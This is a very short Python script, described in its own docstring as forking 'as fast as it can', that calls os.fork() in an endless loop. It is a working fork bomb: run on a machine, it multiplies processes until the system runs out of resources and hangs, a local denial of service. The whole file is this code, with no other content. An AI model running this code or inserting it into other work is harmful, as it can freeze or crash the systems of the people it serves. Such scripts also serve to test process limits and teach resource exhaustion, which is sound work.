"""Forks as fast as it can."""
import os

while True:
    os.fork()
